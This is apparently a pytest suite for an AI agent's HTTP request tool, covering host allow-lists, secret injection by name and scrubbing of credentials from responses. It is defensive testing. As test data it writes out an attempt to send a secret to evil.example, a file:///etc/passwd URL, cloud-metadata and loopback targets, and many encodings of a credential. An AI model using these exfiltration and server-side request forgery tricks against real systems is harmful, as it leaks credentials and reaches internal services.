"""http_request: allowed hosts only (https unless listed, public addresses unless listed),
secrets injected by name, only where they are bound, and never shown back in any form."""

from __future__ import annotations

import base64
import json
from collections.abc import AsyncIterator, Callable
from urllib.parse import quote

import httpx
import pytest

from agent_core.events import ConversationKey
from agent_core.secrets import Secrets
from agent_core.tools.base import Tool, ToolContext, TurnContext
from agent_core.tools.http_request import host_allowed, http_request_factory

TURN = TurnContext(
    turn_id=3,
    conversation_id="c",
    conversation=ConversationKey(platform="web", workspace="local", channel="x"),
    user="web:local",
)
CONTEXT = ToolContext(turn=TURN, call_id="call", idempotency_key="3:4")
CANARY = "ghp_canary_5f2e9a"


ADDRESSES = {
    "api.github.com": ["140.82.112.5"],
    "echo.example": ["93.184.215.14"],
    "internal.example": ["127.0.0.1"],
    "metadata.example": ["169.254.169.254"],
    "mixed.example": ["93.184.215.15", "10.0.0.7"],
}
ALLOWED = [
    "api.github.com",
    "echo.example",
    "internal.example",
    "metadata.example",
    "mixed.example",
    "http://127.0.0.1:9000",
]


async def _resolve(host: str, port: int) -> list[str]:
    return ADDRESSES[host]


def _tool(
    seen: list[httpx.Request],
    *,
    answer: Callable[[httpx.Request], httpx.Response] | None = None,
    secrets: Secrets | None = None,
) -> Tool:
    def handler(request: httpx.Request) -> httpx.Response:
        seen.append(request)
        if answer is not None:
            return answer(request)
        echoed = f"auth was {request.headers.get('authorization')}; body {request.content!r}"
        return httpx.Response(200, text=echoed, headers={"content-type": "text/plain"})

    (tool,) = http_request_factory(
        allowed_hosts=ALLOWED,
        secrets=secrets or Secrets({"GITHUB": CANARY}),
        timeout=5,
        output_limit=4000,
        transport=httpx.MockTransport(handler),
        resolve=_resolve,
    )(TURN)
    return tool


@pytest.mark.parametrize(
    ("url", "allowed"),
    [
        ("https://api.github.com/repos", True),
        ("https://API.GITHUB.COM:443/x", True),
        ("http://api.github.com/x", False),
        ("https://api.github.com:8443/x", False),
        ("http://127.0.0.1:9000/x", True),
        ("https://127.0.0.1:9000/x", False),
        ("http://127.0.0.1:9001/x", False),
        ("https://api.github.com.evil.example/", False),
        ("https://evil.example/?api.github.com", False),
        ("file:///etc/passwd", False),
        ("ftp://api.github.com/", False),
    ],
)
def test_only_listed_hosts_are_allowed(url: str, allowed: bool) -> None:
    """Scheme, host and port must match an entry: a bare name means https on 443; plain
    http only where an entry says http://."""
    assert host_allowed(url, ["api.github.com", "http://127.0.0.1:9000"]) is allowed


async def test_a_secret_is_injected_and_scrubbed_from_the_result() -> None:
    """{{secret:GITHUB}} reaches the server; the echo back to the model shows the name only."""
    seen: list[httpx.Request] = []
    tool = _tool(seen)
    arguments = tool.validate(
        {
            "method": "POST",
            "url": "https://api.github.com/issues",
            "headers": {"Authorization": "token {{secret:GITHUB}}"},
            "body": '{"note": "{{secret:GITHUB}}"}',
        }
    )
    outcome = await tool.run(arguments, CONTEXT)
    assert seen[0].headers["authorization"] == f"token {CANARY}"
    assert seen[0].headers["idempotency-key"] == "3:4"
    assert outcome.status == "ok"
    assert outcome.output.startswith("HTTP 200 OK\ncontent-type: text/plain")
    assert CANARY not in outcome.output
    assert "[secret:GITHUB]" in outcome.output


async def test_a_disallowed_host_is_refused_without_a_request() -> None:
    """Nothing is sent to a host that is not listed, and the error names the allowed ones."""
    seen: list[httpx.Request] = []
    tool = _tool(seen)
    outcome = await tool.run(
        tool.validate({"method": "GET", "url": "https://evil.example/{{secret:GITHUB}}"}), CONTEXT
    )
    assert outcome.status == "error"
    assert "host not allowed" in outcome.output
    assert CANARY not in outcome.output
    assert seen == []


async def test_an_unknown_secret_name_is_an_error_for_the_model() -> None:
    """A made-up secret name is reported with the configured names."""
    seen: list[httpx.Request] = []
    tool = _tool(seen)
    outcome = await tool.run(
        tool.validate({"method": "GET", "url": "https://api.github.com/{{secret:AWS}}"}), CONTEXT
    )
    assert outcome.status == "error"
    assert "unknown secret 'AWS' (configured: GITHUB)" in outcome.output
    assert seen == []


def test_only_get_and_head_are_idempotent() -> None:
    """A re-run after a crash is safe for reads only."""
    tool = _tool([])
    assert tool.is_idempotent({"method": "GET"}) is True
    assert tool.is_idempotent({"method": "POST"}) is False


@pytest.mark.parametrize(
    "disguise",
    [
        CANARY,
        CANARY[::-1],
        CANARY[:10],
        CANARY[-9:],
        quote(CANARY, safe=""),
        base64.b64encode(CANARY.encode()).decode(),
        base64.urlsafe_b64encode(CANARY.encode()).decode(),
        base64.b64encode(f"user:{CANARY}".encode()).decode(),
        base64.b64encode(f"xy{CANARY}!".encode()).decode(),
        CANARY.encode().hex(),
        CANARY.encode().hex().upper(),
        json.dumps({"token": CANARY}),
        CANARY.upper(),
        "".join(f"%{byte:02X}" for byte in CANARY.encode()),
        "".join(f"%{byte:02x}" for byte in CANARY.encode()),
        CANARY[:12].upper(),
    ],
    ids=[
        "raw",
        "reversed",
        "prefix",
        "suffix",
        "url-encoded",
        "base64",
        "base64-urlsafe",
        "basic-auth",
        "base64-shifted",
        "hex",
        "hex-upper",
        "json",
        "upper-case",
        "every-byte-escaped",
        "every-byte-escaped-lower",
        "upper-case-prefix",
    ],
)
async def test_a_secret_echoed_back_in_disguise_is_scrubbed(disguise: str) -> None:
    """An allowed host that echoes the credential back, however it is encoded: the model
    sees the name only."""
    seen: list[httpx.Request] = []

    def echo(request: httpx.Request) -> httpx.Response:
        return httpx.Response(200, text=f"you sent <{disguise}>")

    tool = _tool(seen, answer=echo)
    arguments = tool.validate(
        {
            "method": "GET",
            "url": "https://api.github.com/user",
            "headers": {"Authorization": "token {{secret:GITHUB}}"},
        }
    )
    outcome = await tool.run(arguments, CONTEXT)
    assert outcome.status == "ok"
    assert disguise not in outcome.output
    assert "[secret:GITHUB]" in outcome.output


async def test_a_bound_secret_is_refused_on_another_host() -> None:
    """[secrets.GITHUB] hosts = ["api.github.com"]: sending it elsewhere (allowed or not)
    is refused before any request; to its own host it goes."""
    seen: list[httpx.Request] = []
    secrets = Secrets({"GITHUB": CANARY}, hosts={"GITHUB": ["api.github.com"]})
    tool = _tool(seen, secrets=secrets)
    elsewhere = tool.validate({"method": "GET", "url": "https://echo.example/?t={{secret:GITHUB}}"})
    outcome = await tool.run(elsewhere, CONTEXT)
    assert outcome.status == "error"
    assert "secret GITHUB may not be sent to echo.example" in outcome.output
    assert seen == []
    home = tool.validate(
        {
            "method": "GET",
            "url": "https://api.github.com/user",
            "headers": {"Authorization": "token {{secret:GITHUB}}"},
        }
    )
    assert (await tool.run(home, CONTEXT)).status == "ok"
    assert seen[0].headers["authorization"] == f"token {CANARY}"
    assert seen[0].headers["host"] == "api.github.com"
    assert seen[0].url.host == "140.82.112.5"  # connected to the address that was checked
    assert seen[0].extensions["sni_hostname"] == "api.github.com"


async def test_a_secret_in_the_port_leaves_no_trace_in_the_error() -> None:
    """A URL that cannot be parsed once the secret is in it fails as a tool error with the
    value scrubbed (nothing raised, nothing logged with it)."""
    seen: list[httpx.Request] = []
    tool = _tool(seen)
    outcome = await tool.run(
        tool.validate({"method": "GET", "url": "https://api.github.com:{{secret:GITHUB}}/"}),
        CONTEXT,
    )
    assert outcome.status == "error"
    assert CANARY not in outcome.output
    assert seen == []


@pytest.mark.parametrize(
    ("url", "why"),
    [
        ("https://internal.example/", "127.0.0.1"),
        ("https://metadata.example/latest/meta-data/", "169.254.169.254"),
        ("https://mixed.example/", "10.0.0.7"),
        ("https://api.github.com:8443/", "host not allowed"),
        ("http://api.github.com/", "host not allowed"),
    ],
)
async def test_private_addresses_and_unlisted_ports_are_refused(url: str, why: str) -> None:
    """A listed name that resolves to loopback, a private or a link-local (metadata)
    address is refused; so are a port and plain http that no entry lists."""
    seen: list[httpx.Request] = []
    tool = _tool(seen)
    outcome = await tool.run(tool.validate({"method": "GET", "url": url}), CONTEXT)
    assert outcome.status == "error"
    assert why in outcome.output
    assert seen == []


async def test_a_loopback_address_listed_as_itself_is_reached() -> None:
    """The operator's own local service, listed as http://127.0.0.1:9000, is allowed."""
    seen: list[httpx.Request] = []
    tool = _tool(seen)
    outcome = await tool.run(
        tool.validate({"method": "GET", "url": "http://127.0.0.1:9000/health"}), CONTEXT
    )
    assert outcome.status == "ok"
    assert str(seen[0].url) == "http://127.0.0.1:9000/health"


async def test_a_huge_body_is_cut_while_it_streams() -> None:
    """Reading stops at the cap: a 5 MiB answer is not read whole."""
    produced = 0

    async def stream() -> AsyncIterator[bytes]:
        nonlocal produced
        for _ in range(80):
            produced += 65536
            yield b"x" * 65536

    def big(request: httpx.Request) -> httpx.Response:
        return httpx.Response(200, content=stream())

    tool = _tool([], answer=big)
    outcome = await tool.run(
        tool.validate({"method": "GET", "url": "https://echo.example/big"}), CONTEXT
    )
    assert outcome.status == "ok"
    assert produced <= 2 * 1024 * 1024


@pytest.mark.parametrize(
    "address",
    [
        "::ffff:127.0.0.1",
        "64:ff9b::a9fe:a9fe",  # NAT64 of 169.254.169.254
        "2002:7f00:1::1",  # 6to4 of 127.0.0.1
        "fd00::1",
        "::1",
    ],
)
async def test_ipv6_addresses_that_lead_back_inside_are_refused(address: str) -> None:
    ADDRESSES["sneaky.example"] = [address]
    try:
        seen: list[httpx.Request] = []
        (tool,) = http_request_factory(
            allowed_hosts=["sneaky.example"],
            secrets=Secrets(),
            timeout=5,
            output_limit=2000,
            transport=httpx.MockTransport(lambda r: seen.append(r) or httpx.Response(200)),
            resolve=_resolve,
        )(TURN)
        outcome = await tool.run(
            tool.validate({"method": "GET", "url": "https://sneaky.example/"}), CONTEXT
        )
        assert outcome.status == "error"
        assert "refused" in outcome.output
        assert seen == []
    finally:
        del ADDRESSES["sneaky.example"]


@pytest.mark.parametrize("where", ["path", "query"])
async def test_a_secret_in_the_url_echoed_as_the_client_wrote_it_is_scrubbed(where: str) -> None:
    """A secret with characters httpx escapes in a URL and others it leaves raw: an echo of
    the request line gives back that mix, which must not reach the model (an attack through
    the running gateway got it back whole)."""
    secret = 'Pa ss"w<0>r{d}`2 02`4 x|^'
    url = (
        "https://api.github.com/{{secret:GH}}"
        if where == "path"
        else "https://api.github.com/p?q={{secret:GH}}"
    )
    seen: list[httpx.Request] = []

    def echo(request: httpx.Request) -> httpx.Response:
        line = f"GET {request.url.raw_path.decode()}"
        return httpx.Response(200, text=line, headers={"content-type": "text/plain"})

    tool = _tool(
        seen, answer=echo, secrets=Secrets({"GH": secret}, hosts={"GH": ["api.github.com"]})
    )
    outcome = await tool.run(tool.validate({"method": "GET", "url": url}), CONTEXT)
    assert outcome.status == "ok"
    assert "[secret:GH]" in outcome.output
    for piece in ("ss%22w", "r{d}", "%604", "2%2002"):
        assert piece not in outcome.output, outcome.output


@pytest.mark.parametrize("charset", ["utf-16-le", "utf-16", "cp500", "utf-32", "utf-7", "punycode"])
async def test_a_charset_that_hides_ascii_does_not_carry_a_secret_past_the_scrubber(
    charset: str,
) -> None:
    """A host that echoes the secret and labels the body with a charset that reads ASCII
    as something else (UTF-16, EBCDIC ...): the body is read as UTF-8 instead, so the
    secret is found, not handed to the model in a form it can encode back."""

    def echo(request: httpx.Request) -> httpx.Response:
        sent = request.headers["x-token"].encode()
        return httpx.Response(
            200,
            content=b'{"tok": "' + sent + b'"}',
            headers={"content-type": f"text/plain; charset={charset}"},
        )

    tool = _tool([], answer=echo)
    arguments = tool.validate(
        {
            "method": "GET",
            "url": "https://echo.example/response-headers",
            "headers": {"X-Token": "{{secret:GITHUB}}"},
        }
    )
    outcome = await tool.run(arguments, CONTEXT)
    assert outcome.status == "ok"
    assert "[secret:GITHUB]" in outcome.output
    assert CANARY[:8] not in outcome.output


async def test_a_body_cut_at_the_cap_shows_no_start_of_a_secret_at_its_end() -> None:
    """The cap cuts the body wherever it falls: a secret's first few characters standing
    right before the cut (too few for the scrubber to know) are not shown."""
    for shown in range(1, 8):

        def echo(request: httpx.Request, shown: int = shown) -> httpx.Response:
            sent = request.headers["x-token"].encode()
            return httpx.Response(200, content=b"A" * (1024 * 1024 - shown) + sent + b"B" * 4096)

        tool = _tool([], answer=echo)
        arguments = tool.validate(
            {
                "method": "GET",
                "url": "https://echo.example/big",
                "headers": {"X-Token": "{{secret:GITHUB}}"},
            }
        )
        outcome = await tool.run(arguments, CONTEXT)
        assert outcome.output.endswith("A\n[... cut at 1048576 bytes ...]"), outcome.output[-60:]
        assert CANARY[:2] not in outcome.output[-80:]
